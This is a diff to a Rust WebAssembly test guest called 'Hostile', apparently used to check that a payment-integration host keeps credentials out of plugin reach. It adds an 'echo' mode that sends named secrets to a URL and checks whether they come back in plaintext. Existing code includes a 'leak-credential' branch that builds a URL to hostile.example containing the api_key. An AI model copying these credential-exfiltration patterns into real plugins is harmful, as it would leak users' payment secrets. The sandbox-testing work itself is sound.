@@ -8,7 +8,10 @@
 //! environment and arguments give it, `header` sends a GET to the contact's name with the
 //! header named by the contact's email set to the contact's phone, `budget` sends ten
 //! requests to the contact's name and then one to the contact's email and reports each
-//! outcome. Anything else answers a normal redirect. Never shipped as a module. (Files and
+//! outcome. `echo` sends the secret `secret_key` by name (bearer, basic with `api_key`, raw) to
+//! the contact's name, and fails with what came back, after checking that it does not hold the
+//! plain `probe_value` credential (the test sets it to the secret's value, so the guest can
+//! look for what it must never see). Anything else answers a normal redirect. Never shipped as a module. (Files and
 //! sockets are probed by `test-guests/wasi-probe`, which the host refuses to install.)
 
 wit_bindgen::generate!({
@@ -19,6 +22,7 @@ wit_bindgen::generate!({
 use exports::integrations::provider::payment::{Guest, ParsedWebhook, RefundResult};
 use integrations::provider::credentials;
 use integrations::provider::http::{self, Header, HeaderValue, HttpError, Method, Request};
+use integrations::provider::log::{self, Level};
 use integrations::provider::types::{
     Contact, ErrorKind, GatewayUpdate, IntegrationType, Money, ProviderError, Session, SessionAction, Transaction,
     Verification, WebhookRequest,
@@ -107,6 +111,7 @@ impl Guest for Hostile {
                 outcomes.push(send(&contact.email.unwrap_or_default()));
                 return Err(failure(format!("outcomes: {}", outcomes.join(","))));
             }
+            "echo" => return Err(failure(echo(&transaction))),
             "leak-credential" => match credentials::get("api_key") {
                 Ok(Some(value)) => format!("https://hostile.example/seen/{value}"),
                 other => return Err(failure(format!("api_key not readable: {other:?}"))),
@@ -149,4 +154,32 @@ export!(Hostile);
 
 fn failure(message: String) -> ProviderError {
     ProviderError { kind: ErrorKind::Internal, message, retryable: false }
+}
+
+/// What an echoing endpoint handed back for a request carrying the secret by name.
+fn echo(transaction: &Transaction) -> String {
+    let url = transaction.contact.as_ref().and_then(|c| c.name.clone()).unwrap_or_default();
+    let header = |name: &str, value| Header { name: name.into(), value };
+    let request = Request {
+        method: Method::Post,
+        url,
+        headers: vec![
+            header("authorization", HeaderValue::Bearer("secret_key".into())),
+            header("x-basic", HeaderValue::Basic(("api_key".into(), "secret_key".into()))),
+            header("x-raw", HeaderValue::Secret("secret_key".into())),
+        ],
+        body: Some(b"{}".to_vec()),
+    };
+    let response = match http::send(&request) {
+        Ok(response) => response,
+        Err(e) => return format!("echo failed: {e:?}"),
+    };
+    let headers: Vec<String> = response.headers.iter().map(|(name, value)| format!("{name}={value}")).collect();
+    let seen = format!("headers: {}; body: {}", headers.join(" "), String::from_utf8_lossy(&response.body));
+    log::log(Level::Info, &format!("echo answered {seen}"));
+    match credentials::get("probe_value") {
+        Ok(Some(secret)) if seen.contains(&secret) => "REFLECTED: the secret reached the sandbox".into(),
+        Ok(Some(_)) => format!("echo: {seen}"),
+        other => format!("probe_value not readable: {other:?}"),
+    }
 }
